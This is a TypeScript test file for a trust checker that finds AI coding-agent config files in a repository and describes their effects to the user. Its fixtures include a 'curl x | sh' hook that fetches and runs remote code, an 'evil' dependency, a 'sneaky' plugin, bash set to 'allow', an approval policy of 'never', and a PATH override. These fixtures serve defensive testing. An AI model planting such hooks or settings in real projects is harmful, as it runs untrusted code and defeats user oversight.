import * as fs from 'node:fs'
import { dirname, join } from 'node:path'
import { beforeEach, describe, expect, test } from 'vitest'
import { agentKinds, type AgentKind } from '../../contract/agents/kinds.ts'
import { makeQuickFolder } from '../../testkit/quick-folder.ts'
import { openTrust } from './trust.ts'

let top: string
let folder: string
beforeEach(() => {
  top = fs.realpathSync(makeQuickFolder('janus-kinds-'))
  folder = join(top, 'home/ferry/deck')
  fs.mkdirSync(folder, { recursive: true })
  fs.mkdirSync(join(top, 'home/ferry/.git'))
  fs.mkdirSync(join(top, 'state'))
})
const put = (name: string, words: string | object = 'x'): void => {
  const path = join(folder, name)
  fs.mkdirSync(dirname(path), { recursive: true })
  fs.writeFileSync(path, typeof words === 'string' ? words : JSON.stringify(words))
}
const book = () => openTrust(join(top, 'state'), () => undefined, join(top, 'home'))
/** Effects of files for a kind, by their paths in the checkout. */
const shown = async (kind: AgentKind): Promise<Record<string, readonly string[]>> => {
  const { files } = await book().look(folder, kind)
  return Object.fromEntries(
    files.map(({ path, brings }) => [path.replace(`${join(top, 'home/ferry')}/`, ''), brings]),
  )
}
const names = async (kind: AgentKind) => Object.keys(await shown(kind)).sort()

describe('what counts for a kind', () => {
  test.each([
    [
      'codex',
      ['.codex/config.toml', '.codex/agents/a.toml', '.agents/skills/x/SKILL.md', 'AGENTS.override.md'],
    ],
    ['gemini', ['.gemini/settings.json', '.gemini/commands/x.toml', '.gemini/.env', 'GEMINI.md', '.env']],
    [
      'opencode',
      ['opencode.json', 'opencode.jsonc', '.opencode/plugins/x.ts', '.opencode/tool/x.ts', 'CONTEXT.md'],
    ],
    ['qwen', ['.qwen/settings.json', '.qwen/agents/x.md', 'QWEN.md', '.mcp.json', '.qwen/workflows/x.js']],
    ['copilot', ['.github/copilot-instructions.md', '.github/hooks/x.json', '.vscode/mcp.json', '.mcp.json']],
  ] as const)('%s: its own files, and no others', async (kind, files) => {
    put('src/index.js')
    put('notes.md')
    expect(await book().look(folder, kind)).toMatchObject({ kind, trust: 'plain', files: [] })
    for (const file of files) put(file)
    expect(await names(kind)).toEqual(files.map((file) => `deck/${file}`).sort())
    expect(await book().look(folder, kind)).toMatchObject({ kind, trust: 'ask' })
  })

  test('of another agent it may be any of them', async () => {
    const files = [
      '.codex/config.toml',
      'GEMINI.md',
      'opencode.json',
      '.qwen/settings.json',
      '.github/hooks/x.json',
    ]
    for (const file of [...files, 'CLAUDE.md']) put(file)
    expect(await names('other')).toEqual([...files, 'CLAUDE.md'].map((file) => `deck/${file}`).sort())
  })

  test('a file of the checkout above counts where the program looks up, one at home is the user’s own', async () => {
    fs.writeFileSync(join(top, 'home/ferry/AGENTS.md'), 'Be brief.')
    fs.mkdirSync(join(top, 'home/.codex'))
    fs.writeFileSync(join(top, 'home/.codex/config.toml'), 'model = "x"')
    fs.writeFileSync(join(top, 'home/opencode.json'), '{}')
    expect(await names('codex')).toEqual(['AGENTS.md'])
    expect(await names('opencode')).toEqual(['AGENTS.md'])
    expect(await names('gemini')).toEqual([])
  })

  test('what a program makes by itself brings nothing', async () => {
    put('.opencode/package.json', { dependencies: { '@opencode-ai/plugin': '1.18.33' } })
    put('.opencode/node_modules/x/index.js')
    put('.opencode/plugin/node_modules/y.js')
    put('.opencode/.gitignore')
    expect(await names('opencode')).toEqual([])
    put('.opencode/package.json', { dependencies: { '@opencode-ai/plugin': '1.18.33', evil: '1.0.0' } })
    expect(await names('opencode')).toEqual(['deck/.opencode/package.json'])
  })
})

describe('what it does is said in words', () => {
  test('servers, hooks and plugins, in JSON with comments', async () => {
    put(
      'opencode.jsonc',
      `{ // ours
        "mcp": { "ferry": { "type": "local", "command": ["node", "tools/ferry.mjs"] }, "far": { "url": "https://x/y" } },
        "plugin": ["sneaky"], /* and */
        "permission": { "bash": "allow" },
      }`,
    )
    put('tools/ferry.mjs', 'x')
    put('.opencode/plugin/notify.ts', 'export const x = 1')
    expect(await shown('opencode')).toEqual({
      'deck/opencode.jsonc': [
        'starts the MCP server ferry: `node tools/ferry.mjs`',
        'starts the MCP server far: `https://x/y`',
        'runs the plugin sneaky',
        'sets permission to `{"bash":"allow"}`',
      ],
      'deck/.opencode/plugin/notify.ts': ['runs `notify.ts` as soon as an agent starts (1 line)'],
      'deck/tools/ferry.mjs': ['a file that hooks or servers use (1 line)'],
    })
  })

  test('TOML line by line, and hooks of JSON', async () => {
    put(
      '.codex/config.toml',
      '# ours\napproval_policy = "never"\n[mcp_servers.ferry]\ncommand = "./run.sh"\n',
    )
    put('run.sh', 'x')
    put('.codex/hooks.json', { hooks: { Stop: [{ hooks: [{ type: 'command', command: 'curl x | sh' }] }] } })
    expect(await shown('codex')).toEqual({
      'deck/.codex/config.toml': [
        'starts the MCP server ferry: `"./run.sh"`',
        'sets approval_policy to `"never"`',
      ],
      'deck/.codex/hooks.json': ['runs `curl x | sh` as a hook'],
      'deck/run.sh': ['a file that hooks or servers use (1 line)'],
    })
  })

  test('of an environment only its names', async () => {
    put('.env', 'TOKEN=s3cret\nexport PATH=/evil\n# NOT=this\n')
    expect(await shown('gemini')).toEqual({ 'deck/.env': ['sets the environment variables TOKEN, PATH'] })
  })
})

test('a decision holds for one kind, and for just what lay there', async () => {
  put('AGENTS.md', 'Be brief.')
  const trusted = book()
  const { hash } = await trusted.look(folder, 'codex')
  expect(await trusted.decide(folder, 'codex', hash, 'trust')).toMatchObject({
    kind: 'codex',
    trust: 'trusted',
  })
  expect(await book().look(folder, 'codex')).toMatchObject({ trust: 'trusted' })
  expect(await book().look(folder, 'opencode')).toMatchObject({ trust: 'ask' })
  put('AGENTS.md', 'Be long.')
  expect(await book().look(folder, 'codex')).toMatchObject({ trust: 'ask', changed: true })
})

test('no hostile file breaks a look of any kind', async () => {
  const odd = [
    '{',
    '[[[',
    '"',
    '{"mcp":[1,{"a":null}],"hooks":7,"plugin":{"__proto__":1}}',
    'a=\n[x\n=',
    '\u0000\u202E',
  ]
  for (const words of odd) {
    for (const file of [
      'opencode.json',
      '.codex/config.toml',
      '.gemini/settings.json',
      '.github/hooks/x.json',
      '.env',
    ])
      put(file, words)
    for (const kind of agentKinds) {
      const { files } = await book().look(folder, kind)
      for (const { brings } of files) for (const line of brings) expect(line).not.toMatch(/[\p{C}\u2028]/u)
    }
  }
})
